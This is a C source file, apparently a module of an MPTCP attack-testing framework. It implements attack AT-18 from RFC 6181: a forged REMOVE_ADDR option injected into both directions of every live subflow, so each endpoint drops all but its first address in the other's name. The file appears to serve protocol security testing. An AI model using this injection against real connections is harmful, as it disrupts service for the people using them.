/* SPDX-License-Identifier: MIT */
/*
 * AT-18: REMOVE_ADDR of every address but the first, to each end in the name of
 * the other. RFC 6181 section 6.1.
 */
#include "atk_flows.h"
#include "atk_table.h"
#include "mpx_tcp.h"

enum { FIRST_ID = 1, IDS = 4 };

static void on_start(struct atk *a, void *state, uint64_t now)
{
    const struct atk_flows *t = state;
    struct mpx_opt o = {.subtype = MPX_SUB_REMOVE_ADDR};
    struct atk_opts opts = {0};

    o.u.remove_addr.count = IDS;
    for (uint8_t i = 0; i < IDS; i++)
        o.u.remove_addr.ids[i] = (uint8_t)(FIRST_ID + i);
    atk_opts_add(&opts, &o);
    for (unsigned i = 0; i < t->n; i++)
        for (int dir = 0; dir < 2 && atk_flows_live(&t->v[i]); dir++)
            atk_flows_inject(a, &t->v[i], dir, MPX_TCP_ACK, &opts, NULL, 0,
                             now);
}

const struct atk_ops atk_remove_addr_forge = {
    .name = "forge-remove-addr",
    .id = "AT-18",
    .does = "removes every address but the first, to each end in the name of "
            "the other",
    .source = "RFC 6181 section 6.1; RFC 8684 section 3.4.2",
    .powers = ATK_READ | ATK_INJECT,
    .state_size = sizeof(struct atk_flows),
    .on_segment = atk_flows_watch,
    .on_start = on_start,
};
